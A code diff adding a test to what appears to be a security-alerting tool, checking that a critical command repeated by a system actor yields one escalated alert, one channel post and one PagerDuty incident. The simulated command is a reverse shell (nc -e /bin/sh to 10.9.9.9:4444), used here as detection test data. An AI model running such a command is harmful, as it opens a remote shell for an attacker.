@@ -107,3 +107,35 @@ describe('digest periods', () => {
     expect(digestPeriodAt(at, 'hourly')).toEqual({ key: 'hourly:2026-12-01T23', startsAt: new Date('2026-12-01T23:00:00Z'), endsAt: new Date('2026-12-02T00:00:00Z') });
   });
 });
+
+describe('a critical command of a system actor, run again and again', () => {
+  let h: Harness;
+  afterEach(async () => h?.stop());
+
+  it('is one alert, one channel post and one page, its repeats counted and noted in its thread', async () => {
+    const { PagerDutySimulator } = await import('../../src/sandbox/pagerduty-simulator.js');
+    const pagerduty = new PagerDutySimulator({ routingKeys: ['R0UTINGKEY0000000000000000000000'] });
+    const listener = await pagerduty.listen(0);
+    try {
+      h = await new Harness().start({ extraYaml: [`pagerduty: { routing_key: R0UTINGKEY0000000000000000000000, api_url: ${listener.url} }`] });
+      const shell = ['nc', '-e', '/bin/sh', '10.9.9.9', '4444'];
+      for (let i = 0; i < 4; i += 1) runAsSystem(h, shell, 'app-1');
+      await h.settle();
+      const [alert, ...others] = await h.alerts();
+      expect(others).toHaveLength(0);
+      expect(alert).toMatchObject({ status: 'escalated', escalation_reason: 'unknown_owner', occurrences: 4, severity: 'critical' });
+      const posts = () => h.security().filter((m) => m.threadTs === null);
+      expect(posts()).toHaveLength(1);
+      // Once escalated, a repeat is a note in the escalation's thread and folds into its incident.
+      h.clock.advance(60_000);
+      runAsSystem(h, shell, 'app-1');
+      await h.settle();
+      expect(await h.alerts()).toHaveLength(2);
+      expect(posts()).toHaveLength(1);
+      expect(h.security().filter((m) => m.threadTs === posts()[0]!.ts).length).toBeGreaterThanOrEqual(1);
+      expect(pagerduty.incidents().map((incident) => incident.dedupKey)).toEqual([alert!.id]);
+    } finally {
+      await listener.close();
+    }
+  });
+});
